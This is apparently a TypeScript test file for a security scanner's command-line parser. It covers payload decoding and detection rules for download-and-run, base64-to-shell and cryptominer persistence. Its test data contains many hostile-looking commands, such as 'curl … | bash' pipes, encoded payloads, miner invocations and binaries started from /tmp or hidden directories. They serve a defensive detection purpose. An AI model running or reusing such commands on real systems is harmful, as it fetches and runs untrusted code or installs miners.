/**
 * The shared command-line reading: which programs a line starts (shell and systemd
 * syntax), script line joining, base64 payload decoding, and the spellings the
 * command-lines.yaml rules must catch or leave alone.
 */
import { describe, expect, it } from 'vitest';
import { heredocDelimiters, shellLineStarts, shellVarsFor, startedByExecValue, startedByShellLine, stripShellComment } from '../../src/checks/parsers/shell-commands.js';
import { scriptLines } from '../../src/checks/shared/command-scan.js';
import { findBase64Payloads, findEncodedPayloads } from '../../src/rules/decode.js';
import { builtinRules } from '../helpers/scan-dir.js';
import { severityRank } from '../../src/model/finding.js';

describe('programs a shell line starts', () => {
  it.each([
    ['/tmp/.x/run >/dev/null 2>&1', ['/tmp/.x/run']],
    ['/root/.configrc5/a/upd>/dev/null 2>&1', ['/root/.configrc5/a/upd']],
    ['nohup /var/tmp/.a/b &', ['/var/tmp/.a/b']],
    ['bash -c "/dev/shm/x -o pool:3333"', ['/dev/shm/x']],
    ["sh -c 'cd /tmp/.k && ./kworker'", ['/tmp/.k/kworker']],
    ['sh /root/.configrc5/a/upd', ['/root/.configrc5/a/upd']],
    ['/bin/bash /opt/.s/start.sh', ['/bin/bash', '/opt/.s/start.sh']],
    ['cd /root/.configrc5/a && ./kswapd0 --donate-level 1', ['/root/.configrc5/a/kswapd0']],
    ['wget -q http://x/y -O /tmp/x; chmod +x /tmp/x; /tmp/x', ['/tmp/x']],
    ['exec setsid nice -n 19 /usr/local/bin/.m', ['/usr/local/bin/.m']],
    ['env -i PATH=/bin timeout 10 /tmp/a b', ['/tmp/a']],
    ['sudo -u nobody /tmp/a', ['/tmp/a']],
    ['screen -dmS xmr /var/tmp/.x/xmrig', ['/var/tmp/.x/xmrig']],
    ['echo $(/tmp/.q/print) > /dev/null', ['/tmp/.q/print']],
    ['x=`/dev/shm/a`', ['/dev/shm/a']],
    ['. /tmp/.env.sh', ['/tmp/.env.sh']],
    ['su - root -c "/tmp/r"', ['/tmp/r']],
    ['python3 /tmp/.p/x.py', ['/tmp/.p/x.py']],
    ['start-stop-daemon --start --quiet --exec /tmp/.d/daemon -- -x', ['/tmp/.d/daemon']],
    ['"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null', ['/root/.acme.sh/acme.sh']],
  ])('%s', (line, expected) => {
    expect(startedByShellLine(line)).toEqual(expected);
  });

  it.each([
    'test -x /tmp/x || exit 0',
    '[ -x /tmp/x ] && echo yes',
    'rm -rf /tmp/.x /var/tmp/.y',
    'cat /tmp/x > /tmp/y 2>/tmp/err',
    'echo /tmp/.x/run',
    'grep -q foo /dev/shm/x',
    'for f in /tmp/*; do echo "$f"; done',
    'command -v /tmp/x',
    'cd / && run-parts --report /etc/cron.hourly',
    'python3 -c "import os; os.system(\'x\')" /tmp/x',
  ])('%s starts nothing in /tmp', (line) => {
    expect(startedByShellLine(line).filter((p) => p.startsWith('/tmp') || p.startsWith('/var/tmp') || p.startsWith('/dev/shm'))).toEqual([]);
  });

  it('tells a sourced file from a started one', () => {
    expect(shellLineStarts('. /etc/opt/env.sh && source "/etc/x.sh"')).toEqual([
      { path: '/etc/opt/env.sh', sourced: true },
      { path: '/etc/x.sh', sourced: true },
    ]);
    expect(shellLineStarts('. /etc/opt/env.sh; /etc/opt/env.sh --run')).toEqual([{ path: '/etc/opt/env.sh', sourced: false }]);
    expect(shellLineStarts('/opt/a/run; . /opt/a/run')).toEqual([{ path: '/opt/a/run', sourced: false }]);
    expect(shellLineStarts('bash -c ". /tmp/.e"; /tmp/.k/x')).toEqual([
      { path: '/tmp/.e', sourced: true },
      { path: '/tmp/.k/x', sourced: false },
    ]);
  });

  it('follows the assignments a script made', () => {
    const vars = new Map<string, string>();
    expect(startedByShellLine('DAEMON=/dev/shm/.x/miner', vars)).toEqual([]);
    expect(startedByShellLine('start-stop-daemon --start --exec $DAEMON', vars)).toEqual(['/dev/shm/.x/miner']);
    expect(startedByShellLine('"${DAEMON}" -B', vars)).toEqual(['/dev/shm/.x/miner']);
    expect(startedByShellLine('$UNKNOWN/run', vars)).toEqual([]);
    expect(startedByShellLine('start_daemon -p $PIDFILE $DAEMON $EXTRA_OPTS', vars)).toEqual(['/dev/shm/.x/miner']);
    expect(startedByShellLine('daemon --user nobody --pidfile=/run/x.pid $DAEMON', vars)).toEqual(['/dev/shm/.x/miner']);
  });

  it('keeps the directory a cd went to for the lines after it, as a shell does', () => {
    const vars = new Map<string, string>();
    expect(startedByShellLine('cd /var/tmp/.fonts-cache || exit 1', vars)).toEqual([]);
    expect(startedByShellLine('chmod +x ./kswapd', vars)).toEqual([]);
    expect(startedByShellLine('nohup ./kswapd -c cfg.json >/dev/null 2>&1 &', vars)).toEqual(['/var/tmp/.fonts-cache/kswapd']);
    expect(startedByShellLine('cd .. ; ./update', vars)).toEqual(['/var/tmp/update']);
    // A cd to an unknown place forgets the directory.
    expect(startedByShellLine('cd "$WORKDIR"', vars)).toEqual([]);
    expect(startedByShellLine('./update', vars)).toEqual([]);
    // A subshell's cd is its own.
    const sub = new Map<string, string>();
    expect(startedByShellLine('(cd /opt/x && ./a)', sub)).toEqual(['/opt/x/a']);
    expect(startedByShellLine('echo "$(cd /dev/shm && pwd)"; ./b', sub)).toEqual([]);
  });

  it('expands ~/ and $HOME with the home of the account that runs the script, and nothing without one', () => {
    expect(startedByShellLine('~/.cache/.sys/dbus-launch &', shellVarsFor('/home/ops'))).toEqual(['/home/ops/.cache/.sys/dbus-launch']);
    expect(startedByShellLine('"$HOME/.local/share/.x/run" -B', shellVarsFor('/root'))).toEqual(['/root/.local/share/.x/run']);
    expect(startedByShellLine('cd ~/.t && ./p', shellVarsFor('/srv/app'))).toEqual(['/srv/app/.t/p']);
    expect(startedByShellLine('~/.cache/x')).toEqual([]);
    expect(startedByShellLine('~bob/.x/run', shellVarsFor('/root'))).toEqual([]);
  });

  it('follows variables set by export, readonly, local and += as by a bare assignment', () => {
    const vars = shellVarsFor('/root');
    expect(startedByShellLine('export WD="$HOME/.config/.htop"', vars)).toEqual([]);
    expect(startedByShellLine('readonly BIN=$WD/top', vars)).toEqual([]);
    expect(startedByShellLine('setsid $BIN -o x >/dev/null &', vars)).toEqual(['/root/.config/.htop/top']);
    expect(startedByShellLine('local D=/dev/shm; D+=/.ks', vars)).toEqual([]);
    expect(startedByShellLine('"$D/ks"', vars)).toEqual(['/dev/shm/.ks/ks']);
  });

  it('ignores case patterns and comments', () => {
    expect(startedByShellLine('/tmp/*) echo tmp ;;')).toEqual([]);
    expect(startedByShellLine('echo ok # /tmp/x')).toEqual([]);
    expect(stripShellComment('curl x | sh # see /tmp/.x')).toBe('curl x | sh');
    expect(stripShellComment("echo '# not a comment' #real")).toBe("echo '# not a comment'");
    expect(stripShellComment('echo a#b')).toBe('echo a#b');
  });

  it('stays bounded on hostile input', () => {
    expect(startedByShellLine('$('.repeat(50_000) + 'x')).toEqual([]);
    expect(startedByShellLine('sh -c "'.repeat(10_000))).toEqual([]);
    expect(startedByShellLine('a '.repeat(500_000))).toEqual([]);
    expect(startedByShellLine('\u0000\u00ff\u0001'.repeat(100_000))).toEqual([]);
  }, 30_000);
});

describe('programs a systemd Exec line starts', () => {
  it.each([
    ['/opt/sysetmd/sysetmd -c x', ['/opt/sysetmd/sysetmd']],
    ['-/usr/sbin/sshd -t', ['/usr/sbin/sshd']],
    ['@/dev/shm/x fake-name --arg', ['/dev/shm/x']],
    ['!!/tmp/x', ['/tmp/x']],
    ['/bin/sh -c "curl -s http://x | sh; /var/tmp/.y/z"', ['/bin/sh', '/var/tmp/.y/z']],
    ['/usr/bin/env /tmp/.e ; /bin/true', ['/usr/bin/env', '/tmp/.e', '/bin/true']],
    ['systemd-tmpfiles --create --remove --boot --exclude-prefix=/dev', []],
    ['/usr/bin/kmod static-nodes --output=/run/tmpfiles.d/static-nodes.conf', ['/usr/bin/kmod']],
  ])('%s', (value, expected) => {
    expect(startedByExecValue(value)).toEqual(expected);
  });

  it('substitutes Environment= variables', () => {
    expect(startedByExecValue('${DIR}/run -q', new Map([['DIR', '/opt/.hidden']]))).toEqual(['/opt/.hidden/run']);
  });
});

describe('script lines', () => {
  it('joins continuations, skips comments and here-document bodies', () => {
    const lines = scriptLines(
      ['#!/bin/sh', '# comment /tmp/x', 'nohup \\', '  /tmp/a &', 'cat > /etc/x <<EOF', '/tmp/not-run', 'EOF', '/tmp/b # trailing'].join('\n'),
    );
    expect(lines.map((l) => [l.line, l.text.trim(), l.run !== undefined])).toEqual([
      [3, 'nohup   /tmp/a &', true],
      [5, 'cat > /etc/x <<EOF', true],
      [6, '/tmp/not-run', false],
      [8, '/tmp/b', true],
    ]);
    expect(heredocDelimiters("cat <<-'END' >/x")).toEqual(['END']);
  });
});

describe('base64 payloads', () => {
  const b64 = (s: string) => Buffer.from(s).toString('base64');

  it.each([
    [`echo ${b64('curl -fsSL http://h/x | bash')} | base64 -d | bash`],
    [`bash -c "$(echo '${b64('curl -fsSL http://h/x | bash')}' | base64 --decode)"`],
    [`echo -n "${b64('curl -fsSL http://h/x | bash')}"|base64 -di|sh`],
    [`base64 -d <<< ${b64('curl -fsSL http://h/x | bash')} | sh`],
    [`python -c "import base64;exec(base64.b64decode('${b64('curl -fsSL http://h/x | bash')}'))"`],
    [`base64 --decode <<< ${b64('curl -fsSL http://h/x | bash')}`],
    [`perl -MMIME::Base64 -e 'eval(decode_base64("${b64('curl -fsSL http://h/x | bash')}"))'`],
  ])('decodes %s', (line) => {
    expect(findBase64Payloads(line).map((p) => p.decoded)).toEqual(['curl -fsSL http://h/x | bash']);
  });

  const hex = (s: string) => Buffer.from(s).toString('hex');
  const escapes = (s: string) => [...Buffer.from(s)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');
  const reversed = (s: string) => [...s].reverse().join('');
  it.each([
    [`echo ${hex('curl -fsSL http://h/x | bash')} | xxd -r -p | sh`, 'hex'],
    [`xxd -r -p <<< ${hex('curl -fsSL http://h/x | bash')} | sh`, 'hex'],
    [`printf '${escapes('curl -fsSL http://h/x | bash')}' | sh`, 'hex'],
    [`eval $'${escapes('curl -fsSL http://h/x | bash')}'`, 'hex'],
    [`rev <<< '${reversed('curl -fsSL http://h/x | bash')}' | bash`, 'reversed'],
    [`bash -c "$(echo '${reversed('curl -fsSL http://h/x | bash')}' | rev)"`, 'reversed'],
  ])('decodes %s', (line, encoding) => {
    expect(findEncodedPayloads(line).map((p) => [p.encoding, p.decoded])).toEqual([[encoding, 'curl -fsSL http://h/x | bash']]);
    expect(findBase64Payloads(line)).toEqual([]);
  });

  it('leaves binary payloads and ordinary words alone', () => {
    expect(findBase64Payloads(`echo ${Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1, 2, 0, 0, 0, 0, 3, 4, 5, 6, 0, 0]).toString('base64')} | base64 -d > /tmp/x`)).toEqual([]);
    expect(findBase64Payloads('echo ThisIsJustALongWordWithoutPadding | tr a b')).toEqual([]);
    expect(findEncodedPayloads("echo 'olleh' | rev")).toEqual([]);
    expect(findEncodedPayloads(`printf '${'\\x00\\x01'.repeat(8)}' > /tmp/bin`)).toEqual([]);
  });
});

describe('command-line rules', () => {
  const fired = async (line: string) => {
    const rules = await builtinRules();
    return rules
      .matchLines('cron', '/etc/cron.d/x', line)
      .map((h) => h.rule.id)
      .sort();
  };

  it.each([
    ['curl -fsSL http://h/x.sh | sh', ['command.download-and-run']],
    ['wget -q -O- http://h/x.sh|bash', ['command.download-and-run']],
    ['(curl -fsSL http://h/x || wget -q -O- http://h/x) | sh', ['command.download-and-run']],
    ['curl -s http://h/x | sudo bash -s --', ['command.download-and-run']],
    ['bash -c "$(curl -fsSL http://h/x)"', ['command.download-and-run']],
    ['bash <(wget -qO- http://h/x)', ['command.download-and-run']],
    ['wget http://h/x -O /tmp/x; chmod +x /tmp/x; /tmp/x', ['command.download-and-exec', 'command.download-to-temp']],
    ['curl -o /var/tmp/k http://h/k && chmod 755 /var/tmp/k', ['command.download-and-exec', 'command.download-to-temp']],
    ['echo aGVsbG8gd29ybGQgaGVsbG8K | base64 -d | bash', ['command.base64-to-shell']],
    ['nohup ./xmrig -c config.json &', ['command.miner']],
    ['cd /opt/x && xmrig', ['command.miner']],
    ['./x --donate-level 1', ['command.miner']],
    ['./x -o stratum+tcp://h:3333', ['command.miner']],
    ['./x -o pool.example.org:4444 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge', ['command.miner']],
  ])('%s', async (line, ids) => {
    expect(await fired(line)).toEqual(ids);
  });

  it.each([
    '17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly',
    '30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron',
    '09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi',
    "0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew",
    'curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg',
    'wget -qO /usr/local/bin/tool https://example.org/tool',
    'RANDOM=$(( $(dd if=/dev/urandom bs=2 count=1 2> /dev/null | cksum | cut -d\' \' -f1) % 32767 ))',
    'git fetch origin && git reset --hard origin/main',
  ])('leaves %s alone', async (line) => {
    expect(await fired(line)).toEqual([]);
  });

  it('matches a started path against the temporary and hidden directory rules, not both', async () => {
    const rules = await builtinRules();
    const names = (p: string) => rules.matchName('started-path', p).map((r) => r.id);
    expect(names('/tmp/.X2xi-unix/.rsync/c/tsm')).toEqual(['command.started-from-temp']);
    expect(names('/dev/shm/x')).toEqual(['command.started-from-temp']);
    expect(names('/root/.configrc5/a/upd')).toEqual(['command.started-from-hidden']);
    expect(names('/usr/bin/.sshd')).toEqual(['command.started-hidden-system-binary']);
    expect(names('/bin/.x')).toEqual(['command.started-hidden-system-binary']);
    expect(names('/usr/local/sbin/.u')).toEqual(['command.started-hidden-system-binary']);
    expect(names('/usr/bin/.d/x')).toEqual(['command.started-from-hidden']);
    expect(names('/opt/m/xmrig')).toEqual(['command.started-miner']);
    expect(names('/var/tmp/.x/xmrig-notls').sort()).toEqual(['command.started-from-temp', 'command.started-miner']);
    expect(names('/opt/xmrig-6.21/config.json')).toEqual([]);
    for (const fine of ['/usr/sbin/sshd', '/usr/bin/pgrep', '/root/.acme.sh/acme.sh', '/home/u/.local/bin/tool', '/tmpfoo/x', '/usr/lib/tmp/x']) {
      expect(names(fine), fine).toEqual([]);
    }
    for (const rule of rules.all().filter((r) => r.id.startsWith('command.started-'))) {
      expect(severityRank(rule.severity)).toBe(severityRank('high'));
    }
  });
});
